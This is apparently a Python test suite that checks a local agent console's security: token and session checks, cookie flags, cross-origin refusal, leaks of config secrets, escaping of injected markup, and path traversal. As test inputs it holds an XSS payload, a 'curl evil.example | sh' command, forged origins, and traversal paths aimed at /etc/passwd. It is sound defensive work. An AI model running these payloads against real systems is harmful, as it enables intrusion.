"""The console's port as someone other than its person meets it: every route without the token
or with a wrong one, the token and the config's secrets nowhere they could leak from, an answer
posted from another origin, one approval answered from three surfaces at once, and markup in
what agents, chat users and tool calls say, shown as text in every view, rendered or live."""

from __future__ import annotations

import asyncio
import logging
import re
import stat
import time
from collections.abc import AsyncIterator
from pathlib import Path
from typing import Any

import httpx
import pytest
from playwright.async_api import Page, expect
from starlette.requests import Request
from starlette.routing import Route
from temporalio.testing import WorkflowEnvironment

from agentcomms.config import Config, ConsoleConfig
from agentcomms.config.models import AgentConfig
from agentcomms.console_sessions import ConsoleSessions, revoke_all
from gateway.console import Console
from gateway.console.access import Access
from tests.fakes.telegram import FakeTelegram
from tests.support.browser import SHOWN_S, console_address, console_cookies, open_console
from tests.support.chat import CHAT, connected, with_telegram
from tests.support.cli import env_for, run
from tests.support.home import write_config
from tests.support.hooks import open_question
from tests.support.raw_http import knock
from tests.support.stack import Stack, running_stack
from tests.support.waiting import eventually
from workflows.approval.client import Approvals

# What a hostile agent, chat user or tool call might say: markup, were it ever inserted as HTML.
MARKUP = '<b class="injected">x</b><img src=x onerror=alert(1)>'
RACES = 6
TOKEN = "the-console-token-of-this-test"


@pytest.fixture
async def stack(
    temporal_env: WorkflowEnvironment,
    tmp_path: Path,
    home: Path,
    telegram: FakeTelegram,
    agent: str,
) -> AsyncIterator[Stack]:
    """A stack serving the console, with Telegram: Alice's chat is `agent`'s, and she approves."""

    def configure(cfg: Config) -> Config:
        cfg = with_telegram(telegram, agent)(cfg)
        approver = AgentConfig(target="nowhere:0.0", approvers=[f"telegram:{CHAT}"])
        return cfg.model_copy(
            update={"console": ConsoleConfig(enabled=True, port=0), "agents": {agent: approver}}
        )

    telegram.known_chats.add(CHAT)
    async with running_stack(temporal_env.client, tmp_path, configure=configure) as s:
        await connected(s, "telegram")
        yield s


def _console(stack: Stack) -> Console:
    console = stack.gateway.console
    assert console is not None
    return console


def _addresses(stack: Stack, agent: str) -> list[tuple[str, str]]:
    """Every route of the console (its static files aside) as (method, address), its
    parameters filled in."""
    filled = {"agent_id": agent, "event_id": "evt_01", "approval_id": "ABCD", "call_id": "c1",
              "file": "1.wav", "action": "interrupt"}  # fmt: skip
    base = console_address(stack, token=False).rstrip("/")
    routes = [r for r in _console(stack).server.app.routes if isinstance(r, Route)]
    return [
        (method, base + re.sub(r"\{(\w+)\}", lambda m: filled[m[1]], r.path))
        for r in routes
        for method in sorted((r.methods or set()) - {"HEAD"})
    ]


async def test_every_route_is_locked_without_the_token_or_with_a_wrong_one(
    stack: Stack, agent: str
) -> None:
    await stack.call("register", agent_id=agent, target="nowhere:0.0")
    console = _console(stack)
    token = console.access.token
    wrong = token[:-1] + ("A" if token[-1] != "A" else "B")
    cookie = console.access.cookie
    # The page's field is no key without the cookie; nor is the token in an address other than
    # the one `up` prints, nor a wrong session in the cookie, nor the token itself there.
    ways: list[dict[str, Any]] = [
        {},
        {"cookies": {cookie: wrong}},
        {"cookies": {cookie: token}},
        {"params": {"t": token}},
        {"params": {"t": wrong}},
    ]
    addresses = _addresses(stack, agent)
    assert len(addresses) == 14, addresses
    form = {"csrf": console.access.csrf, "message": "hi", "behavior": "deny"}
    answers = []
    for method, address in addresses:
        for way in ways:
            async with httpx.AsyncClient(cookies=way.get("cookies")) as http:
                answer = await http.request(
                    method,
                    address,
                    params=way.get("params"),
                    data=form if method == "POST" else None,
                )
            shown = [v for _, v in answer.headers.items()]
            assert token not in answer.text + "".join(shown)
            answers.append((method, address, way, answer.status_code))
    # Only the address `up` prints opens the console (its cookie set, the token gone from it).
    opened = [a[1:3] for a in answers if a[3] != 401]
    assert opened == [(console_address(stack, token=False), {"params": {"t": token}})]
    assert len(answers) == 14 * len(ways)
    assert await stack.store.latest_events(agent, 5) == []


async def test_the_token_is_in_no_page_header_or_log_line(
    stack: Stack, agent: str, caplog: pytest.LogCaptureFixture
) -> None:
    caplog.set_level(logging.DEBUG)
    await stack.call("register", agent_id=agent, target="nowhere:0.0")
    sent = await stack.call("send", agent_id=agent, message="hello")
    await eventually(lambda: stack.store.get_agent(agent))
    console = _console(stack)
    token = console.access.token
    async with httpx.AsyncClient() as http:
        opened = await http.get(console.address_with_token())
        # The token leaves the address at once: no page with it to be a Referer, or a history
        # entry; the cookie is the browser's alone (no script reads it), never another site's.
        assert (opened.status_code, opened.headers["location"]) == (303, "/")
        cookie = opened.headers["set-cookie"]
        assert "HttpOnly" in cookie and "SameSite=strict" in cookie
        # The cookie holds a session of this console, never the token (which every port of
        # the host would be sent).
        assert token not in cookie
        assert http.cookies[console.access.cookie] not in ("", token)
        pages = {}
        for method, address in _addresses(stack, agent):
            address = address.replace("evt_01", sent["event_id"])
            # (A sound is the calls test's; where a message is now, a status word, waits.)
            if method != "GET" or "/audio/" in address or "/sent/" in address:
                continue
            async with http.stream("GET", address, timeout=30) as answer:
                body = b""
                async for chunk in answer.aiter_bytes():
                    body += chunk
                    if "/stream" in address:
                        break  # it never ends; its first words are enough
            pages[address] = (answer.status_code, answer.headers, body.decode())
    assert {s for s, _, _ in pages.values()} == {200}, {a: p[0] for a, p in pages.items()}
    assert len(pages) == 8
    for _, headers, text in pages.values():
        assert token not in text and token not in str(headers)
        assert headers["referrer-policy"] == "same-origin"
    # (What this test's own HTTP client logs of the cookie it was given is its own.)
    logged = [r for r in caplog.records if not r.name.startswith(("httpcore", "httpx"))]
    assert len(logged) > 10
    assert [r.getMessage() for r in logged if token in r.getMessage()] == []


async def test_a_session_replayed_to_another_port_or_revoked_from_the_cli_is_refused(
    stack: Stack, home: Path
) -> None:
    """A dev server on another port of 127.0.0.1 is sent the console's cookie: what it holds
    opens that console alone, and only until the human ends every session."""
    console = _console(stack)
    address = console_address(stack, token=False)
    async with httpx.AsyncClient() as http:
        await http.get(console.address_with_token())
        value = http.cookies[console.access.cookie]
    other = f"agentcomms_console_{console.server.port + 1}"

    async def answer(cookies: dict[str, str]) -> int:
        async with httpx.AsyncClient(cookies=cookies) as http:
            return (await http.get(address)).status_code

    assert await answer({console.access.cookie: value}) == 200
    # Under another console's name, as a second deployment's cookie would arrive here.
    assert await answer({other: value}) == 401
    ended = await asyncio.to_thread(run, env_for(home), "console", "--logout-all")
    assert ended.returncode == 0 and "ended 1 console session" in ended.stdout, ended
    assert await answer({console.access.cookie: value}) == 401
    # The printed address opens a new one.
    async with httpx.AsyncClient() as http:
        assert (await http.get(console.address_with_token())).status_code == 303
        assert (await http.get(address)).status_code == 200


async def test_an_open_pages_stream_ends_with_its_session(
    stack: Stack, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A page left open keeps its stream for days: revoking its session ends that too, and the
    page, connecting again, finds the door locked."""
    from gateway.console import app

    monkeypatch.setattr(app, "KEEPALIVE_S", 0.2)  # how soon an idle stream looks again
    cookies = console_cookies(stack)
    stream = f"{console_address(stack, token=False)}stream?seq=0"
    heard = ""
    async with httpx.AsyncClient(cookies=cookies, timeout=20) as http:
        async with asyncio.timeout(10), http.stream("GET", stream) as answer:
            assert answer.status_code == 200
            async for chunk in answer.aiter_text():
                heard += chunk
                if ": still here" in heard and "again" not in heard:
                    revoke_all()
        again = await http.get(stream)
    assert heard.endswith("event: again\ndata: {}\n\n") and again.status_code == 401


def _request(cookies: dict[str, str]) -> Request:
    header = "; ".join(f"{k}={v}" for k, v in cookies.items()).encode()
    return Request({"type": "http", "headers": [(b"cookie", header)]})


def _access(
    path: Path, port: int, *, deployment: str = "/run/a.sock", token: str = TOKEN
) -> Access:
    access = Access(token, deployment=deployment, sessions=path)
    access.port = port
    return access


# Where a session opened by the console on port 8235 of deployment /run/a.sock is presented,
# and whether it opens the console there.
REPLAYS = [
    ("the console that issued it", 8235, "/run/a.sock", TOKEN, True),
    ("another port, the same deployment", 8236, "/run/a.sock", TOKEN, False),
    ("another deployment on the same port", 8235, "/run/b.sock", TOKEN, False),
    ("the same console after its token changed", 8235, "/run/a.sock", "a-new-token", False),
]


@pytest.mark.parametrize(("where", "port", "deployment", "token", "opens"), REPLAYS)
def test_a_session_opens_only_the_console_that_issued_it(
    tmp_path: Path, where: str, port: int, deployment: str, token: str, opens: bool
) -> None:
    sessions = tmp_path / "console.sessions"
    value = _access(sessions, 8235).open_session()
    assert value != TOKEN
    there = _access(sessions, port, deployment=deployment, token=token)
    # Each console reads the cookie of its own port's name: the value is tried there too.
    for cookies in ({there.cookie: value}, {"agentcomms_console_8235": value}):
        assert there.admitted(_request(cookies)) is opens, (where, cookies)


def test_a_session_ends_when_revoked_or_past_its_time(tmp_path: Path) -> None:
    path = tmp_path / "console.sessions"
    now = [time.time()]
    sessions = ConsoleSessions(TOKEN, path, clock=lambda: now[0], ttl_s=60)
    first, second = (sessions.issue(port=1, deployment="d") for _ in range(2))
    assert sessions.valid(first, port=1, deployment="d")
    now[0] += 61
    assert not sessions.valid(first, port=1, deployment="d")
    now[0] -= 61
    # Revoked by another process (the CLI) while this one holds the file in memory.
    assert revoke_all(path) == 2
    assert not sessions.valid(second, port=1, deployment="d")
    assert stat.S_IMODE(path.stat().st_mode) == 0o600
    assert TOKEN not in path.read_text() and second not in path.read_text()


async def _press_answer(telegram: FakeTelegram, press: str) -> str | None:
    answered = [p for p in telegram.answered_presses if p.get("callback_query_id") == press]
    return str(answered[0].get("text")) if answered else None


async def test_one_approval_answered_at_once_in_the_console_the_terminal_and_a_chat(
    stack: Stack, agent: str, telegram: FakeTelegram
) -> None:
    console = _console(stack)
    cookies = console_cookies(stack)
    approvals = Approvals(stack.client, stack.cfg.temporal.task_queue)
    won: dict[str, int] = {}
    async with httpx.AsyncClient(cookies=cookies) as http:
        for n in range(RACES):
            opened = await stack.call(
                "approval_open", kind="claude-code", agent_id=agent, tool_name="Bash",
                tool_input={"command": f"make race-{n}"},
            )  # fmt: skip
            approval = opened["id"]
            message = await eventually(lambda: telegram.request_for(approval))  # noqa: B023
            # Allowing reads the approval first (is an answer its kind's?), denying does not:
            # each surface takes the slower turn as often as the quicker.
            console_does, terminal_does = ("allow", "deny") if n % 2 else ("deny", "allow")
            press = f"cq-{telegram._next_update_id}"
            telegram.human_presses(message, f"ap:{approval}:a", user_id=CHAT)
            from_console, from_terminal = await asyncio.gather(
                http.post(
                    f"{console_address(stack, token=False)}approvals/{approval}",
                    data={"csrf": console.access.csrf, "behavior": console_does},
                    headers={"Accept": "application/json"},
                ),
                stack.call("approval_decide", id=approval, behavior=terminal_does, via="terminal"),
            )
            told = await eventually(lambda: _press_answer(telegram, press))  # noqa: B023
            view = await approvals.view(approval)
            assert view is not None and view.decision is not None
            via = view.decision.via
            won[via] = won.get(via, 0) + 1
            console_said = from_console.json()
            accepted = {
                "console": console_said["accepted"],
                "terminal": from_terminal["accepted"],
                "telegram": "answered already" not in told,
            }
            assert [s for s, yes in accepted.items() if yes] == [via], (accepted, told)
            # Every loser hears who answered first.
            assert console_said["decided_via"] == from_terminal["decided_via"] == via
            if via != "console":
                assert "before your answer, which was not used" in console_said["html"]
    assert sum(won.values()) == RACES


async def _no_markup_in(page: Page, *where: str) -> None:
    """Each of `where` shows MARKUP as its text, and nothing of it became an element."""
    for selector in where:
        await expect(page.locator(selector).filter(has_text=MARKUP).first).to_be_visible(
            timeout=SHOWN_S
        )
    assert await page.locator(".injected, main img").count() == 0


async def test_markup_from_a_chat_an_agent_and_a_tool_call_is_text_in_every_view(
    stack: Stack, agent: str, telegram: FakeTelegram, page: Page
) -> None:
    await stack.call("register", agent_id=agent, target="nowhere:0.0")
    await eventually(lambda: stack.store.get_agent(agent))
    await open_console(page, stack, f"/agents/{agent}")
    # Live, into the open page: a chat user's name and words, the agent's reply, a command it
    # asks to run, a question and its options.
    telegram.human_says(CHAT, MARKUP, first_name=MARKUP)
    await stack.call("reply", channel_id="cli:local", agent_id=agent, message=MARKUP)
    command = await stack.call(
        "approval_open", kind="claude-code", agent_id=agent, tool_name="Bash",
        tool_input={"command": MARKUP},
    )  # fmt: skip
    question = await open_question(stack, agent, [MARKUP, "plain"], question=MARKUP, several=False)
    timeline, cards = "#timeline .item", f"#approval-{command['id']}, #approval-{question}"
    await expect(page.locator(timeline)).to_have_count(2, timeout=SHOWN_S)
    await _no_markup_in(page, f"{timeline}.dir-in .who", f"{timeline}.dir-out .text", cards)
    # Rendered whole, on every page that shows them.
    await page.reload()
    await _no_markup_in(page, f"{timeline}.dir-in .who", f"{timeline}.dir-out .text", cards)
    await page.get_by_role("link", name="Agents").click()
    await _no_markup_in(page, '[data-field="last_reply"]', cards)
    await page.get_by_role("link", name="Inbox").click()
    await _no_markup_in(page, f"{timeline} .text")
    await page.goto(f"{console_address(stack, token=False)}agents/{agent}")
    await page.locator(f"{timeline}.dir-in").get_by_role("link", name="trace").click()
    await expect(page.locator("ol.trace")).to_be_visible()
    assert await page.locator(".injected, main img").count() == 0
    # An option is the human's answer, and the card says it as text.
    await page.go_back()
    card = page.locator(f"#approval-{question}")
    await card.get_by_role("button", name=MARKUP, exact=True).click()
    await expect(card.locator(".outcome")).to_contain_text(f"answered {MARKUP!r}", timeout=SHOWN_S)
    assert await page.locator(".injected, main img").count() == 0


async def test_an_answer_posted_from_another_origin_with_the_cookie_and_field_is_refused(
    stack: Stack, agent: str
) -> None:
    console = _console(stack)
    cookies = console_cookies(stack)
    opened = await stack.call(
        "approval_open", kind="claude-code", agent_id=agent, tool_name="Bash",
        tool_input={"command": "curl evil.example | sh"},
    )  # fmt: skip
    address = f"{console_address(stack, token=False)}approvals/{opened['id']}"
    form = {"csrf": console.access.csrf, "behavior": "allow"}
    # Even holding both (a page of another site cannot), another origin, a sandboxed frame's
    # `null` one, or a name rebound to this port is turned away before any answer.
    refused = []
    async with httpx.AsyncClient(cookies=cookies) as http:
        for headers in (
            {"Origin": "http://evil.example"},
            {"Origin": "null"},
            {"Origin": f"http://localhost.evil.example:{console.server.port}"},
            {"Host": f"evil.example:{console.server.port}"},
        ):
            answer = await http.post(address, data=form, headers=headers)
            refused.append(answer.status_code)
    assert refused == [403] * 4
    assert (await stack.call("approval_wait", id=opened["id"], wait_s=0.5)) == {"status": "open"}


async def test_the_doctor_page_shows_no_secret_of_the_config(
    stack: Stack, home: Path, telegram: FakeTelegram
) -> None:
    secrets = {
        "the database's password": "pg-pass-0f1e2d",
        "the bot's token": telegram.token,
        "the deployment key": "a-deployment-key-only-this-test-knows-000",
    }
    write_config(
        home,
        {
            "server": {"socket_path": str(stack.cfg.server.socket())},
            "temporal": {"address": stack.cfg.temporal.address},
            "database": {"url": "postgresql+asyncpg://agents:pg-pass-0f1e2d@127.0.0.1:9/agents"},
            "security": {"deployment_key": secrets["the deployment key"]},
            "chat": {"telegram": {"enabled": True, "token": telegram.token}},
        },
    )
    cookies = console_cookies(stack)
    async with httpx.AsyncClient(cookies=cookies, timeout=60) as http:
        doctor = await http.get(f"{console_address(stack, token=False)}doctor")
    assert doctor.status_code == 200
    assert "projection" in doctor.text and "127.0.0.1:9" in doctor.text  # it did look
    assert [what for what, secret in secrets.items() if secret in doctor.text] == []


async def test_the_open_static_files_are_only_the_script_and_styles(stack: Stack) -> None:
    console = _console(stack)
    port, host = console.server.port, {"Host": f"127.0.0.1:{console.server.port}"}
    served = await knock(port, "/static/console.js", host, method="GET")
    assert served.status == 200 and "EventSource" in served.text
    # Written by hand: an HTTP client would tidy the dots away before they reached the door.
    for path in ("/static/../access.py", "/static/..%2faccess.py", "/static/%2e%2e/access.py",
                 "/static/..%2f..%2f..%2fpyproject.toml", "/static//etc/passwd"):  # fmt: skip
        answer = await knock(port, path, host, method="GET")
        assert answer.status == 404, (path, answer.status)
        assert "import" not in answer.text and "root:" not in answer.text
